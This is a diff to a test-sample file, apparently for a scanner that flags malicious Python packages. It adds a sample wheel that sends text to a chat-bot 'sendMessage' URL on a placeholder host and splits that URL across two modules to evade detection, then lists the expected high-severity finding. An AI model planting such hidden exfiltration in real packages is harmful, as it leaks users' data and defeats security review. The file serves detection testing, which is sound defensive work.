@@ -10,6 +10,16 @@ const MAILBOX = `https://messenger.weir.test/bot1234567890:${'A'.repeat(35)}/sen
 export const samples: Samples = {
   malicious: [
     {
+      name: 'Python: a mailbox that one module keeps for another',
+      files: {
+        ...wheel(
+          'import requests\nfrom .places import BOX\ndef tell(text):\n    requests.post(BOX, json=text)\n',
+        ),
+        'own/places.py': `BOX = 'https://messenger.weir.test/bot1234567890:${hide('a name of its own').slice(0, 20)}Bb3xY9zQ7wE5rT1u/sendMessage'\n`,
+      },
+      expected: [at('mailbox', 'high', 1, 'own/places.py')],
+    },
+    {
       name: 'Python: a tunnel in a setup script',
       files: {
         'PKG-INFO': 'Metadata-Version: 2.1\nName: own\nVersion: 1.0\n',
